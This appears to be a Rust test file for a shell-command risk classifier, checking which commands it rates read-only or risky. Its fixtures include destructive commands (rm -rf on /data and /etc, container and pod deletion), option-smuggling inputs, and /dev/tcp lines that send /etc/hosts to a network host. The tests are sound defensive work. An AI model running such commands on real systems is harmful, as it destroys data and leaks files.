//! Names that a command lists are no options of the command that gets them; anything else that only the host knows may be.

use watchkeeper_model::RiskLevel::{self, High, Low, Medium, ReadOnly};
use watchkeeper_risk::{HostFacts, assess_text};

fn level(text: &str) -> RiskLevel {
    assess_text(text, &HostFacts::default()).assessment.level
}

fn all(lines: &[&str], wanted: RiskLevel) {
    for line in lines {
        assert_eq!(level(line), wanted, "{line}");
    }
}

fn none_only_looks(lines: &[&str]) {
    for line in lines {
        assert!(level(line) > ReadOnly, "{line}");
    }
}

#[test]
fn looking_at_each_of_the_names_that_a_command_lists_only_looks() {
    all(
        &[
            "for u in $(systemctl list-units --failed --no-legend --plain | awk '{print $1}'); do systemctl status \"$u\"; done",
            "systemctl list-units --plain --no-legend | awk '$3 == \"failed\" {print $1}' | sort -u | head -5 | xargs -r systemctl show -p Id,NRestarts",
            "docker ps -q | xargs docker inspect --format '{{.State.Status}}'",
            "docker ps -aq | xargs -r -n1 docker inspect --format '{{.Name}}'",
            "for p in $(kubectl get pods -o name); do kubectl exec \"$p\" -- df -h; done",
            "pgrep -f x | xargs -r ps -o pid,args -p",
            "for u in $(cut -d: -f1 /etc/passwd); do crontab -l -u \"$u\"; done",
            "for u in $(getent passwd | cut -d: -f1); do crontab -l -u \"$u\"; done",
        ],
        ReadOnly,
    );
}

#[test]
fn text_that_is_no_list_of_names_may_still_be_options() {
    none_only_looks(&[
        "cat /srv/list | xargs docker inspect",
        "curl -s http://example.com/list | xargs -n1 systemctl status",
        "docker ps | xargs docker inspect",
        "docker ps -q --format '{{.Command}}' | xargs docker inspect",
        "docker ps -q | sed 's/^/-/' | xargs docker inspect",
        "docker ps -q | xargs -d a docker inspect",
        "IFS=a; docker inspect $(docker ps -q)",
        "docker inspect \"$(docker ps -q)--x\"",
        "for u in $(cut -d: -f5 /etc/passwd); do systemctl status \"$u\"; done",
        "for u in $(cut -d: -f1 /srv/list); do systemctl status \"$u\"; done",
        "docker ps -q | awk '($1 = \"--x\") {print $1}' | xargs docker inspect",
        "docker ps -q | awk '{print \"-\" $1}' | xargs docker inspect",
    ]);
}

#[test]
fn what_is_done_to_names_that_are_listed_counts_as_before() {
    none_only_looks(&[
        "docker ps -q | xargs docker rm -f",
        "for p in $(kubectl get pods -o name); do kubectl delete \"$p\"; done",
        "for p in $(kubectl get pods -o name); do kubectl exec \"$p\" -- rm -rf /data; done",
        "systemctl list-units | awk '{print $1}' | xargs systemctl stop",
    ]);
}

#[test]
fn what_timeout_ends_does_not_go_on_for_ever() {
    all(
        &[
            "timeout 20 tail -F /var/log/mail.log",
            "timeout 5 journalctl -f -n 0 -u nginx",
            "timeout -k 2 1m watch -n 2 -t 'ss -s | head -3'",
        ],
        ReadOnly,
    );
    all(
        &[
            "tail -F /var/log/mail.log",
            "timeout 0 tail -F /var/log/mail.log",
            "timeout inf tail -F /var/log/mail.log",
            "timeout -s CONT 5 tail -F /var/log/mail.log",
            "timeout 5 bash -c 'tail -F /var/log/mail.log &'",
        ],
        Low,
    );
    assert!(level("timeout 5 rm -rf /etc") >= High);
}

#[test]
fn a_connection_through_which_nothing_is_written_is_a_probe() {
    all(
        &[
            "</dev/tcp/10.0.0.12/22",
            "timeout 1 bash -c '</dev/tcp/10.0.0.12/22' && echo open",
            "for p in 22 80; do timeout 1 bash -c \"</dev/tcp/10.0.0.12/$p\" 2>/dev/null && echo \"$p open\"; done",
        ],
        ReadOnly,
    );
    all(
        &[
            "echo x >/dev/tcp/10.0.0.12/22",
            "exec 3<>/dev/tcp/10.0.0.12/22",
            "exec 3</dev/tcp/10.0.0.12/22; cat /etc/hosts >&3",
            "bash -c 'cat /etc/hosts >&0' </dev/tcp/10.0.0.12/22",
            "</dev/tcp/$HOST/22",
        ],
        High,
    );
    assert!(Medium < High);
}
